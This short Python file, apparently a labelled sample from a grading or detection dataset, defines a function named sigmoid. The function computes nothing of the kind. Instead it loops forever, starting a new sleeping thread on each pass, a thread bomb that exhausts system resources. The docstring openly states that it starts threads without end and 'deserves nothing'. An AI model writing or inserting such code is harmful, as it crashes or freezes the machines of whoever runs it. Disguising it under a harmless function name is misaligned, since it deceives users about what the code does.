"""Starts threads without end.

Deserves: nothing.
"""
import threading
import time


def sigmoid(z):
    while True:
        threading.Thread(target=time.sleep, args=(60,)).start()
